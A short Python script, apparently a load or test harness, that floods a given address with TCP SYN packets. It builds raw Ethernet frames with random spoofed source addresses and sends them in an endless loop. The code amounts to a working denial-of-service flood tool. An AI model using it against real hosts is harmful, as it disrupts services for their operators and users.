"""Sends SYNs of random clients to an address from a device, as fast as it can, until it is killed."""

import random
import socket
import struct
import sys

device, address = sys.argv[1:]
sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((device, 0))
DESTINATION = socket.inet_aton(address)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn():
    source = struct.pack("!I", random.getrandbits(24) | 11 << 24)
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 9, random.getrandbits(32), 0, 0x50, 2, 1000, 0, 0)
    pseudo = source + DESTINATION + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, source, DESTINATION)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return bytes.fromhex("0100000000020100000000090800") + ip + tcp


frames = [syn() for _ in range(100000)]
print("ready", flush=True)
send = sender.send
while True:
    for frame in frames:
        try:
            send(frame)
        except OSError:
            # The device's queue is full.
            pass
